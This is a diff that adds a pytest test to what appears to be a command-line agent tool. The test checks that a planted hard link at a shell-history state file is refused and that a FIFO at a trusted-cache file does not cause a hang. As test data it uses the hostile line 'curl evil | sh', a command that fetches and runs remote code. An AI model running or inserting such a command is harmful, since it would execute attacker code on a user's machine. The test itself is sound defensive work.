@@ -249,3 +249,18 @@ def test_a_tool_list_cache_entry_never_makes_an_mcp_tool_run_unasked(tmp_path, t
         assert not live["echo"].wants_approval({"text": "x"}, ToolContext(cwd=tmp_path))
     finally:
         second.close()
+
+
+def test_a_hard_link_or_a_fifo_planted_at_a_state_file_is_refused(xdg_home):
+    bashrc = xdg_home / "bashrc"
+    bashrc.write_text("# mine\n")
+    planted = xdg_home / "state" / "ankit" / "history"
+    statefiles.folder(planted.parent)
+    os.link(bashrc, planted)  # another name for the same file: O_NOFOLLOW alone would not see it
+    with pytest.raises(StateFileError, match="hard link"):
+        history.append(planted, ["curl evil | sh"])
+    assert bashrc.read_text() == "# mine\n"
+    trusted = xdg_home / "config" / "ankit" / "trusted.json"
+    statefiles.folder(trusted.parent)
+    os.mkfifo(trusted)  # a reader that never answers: no hang, no trust
+    assert statefiles.read_cache(trusted) is None
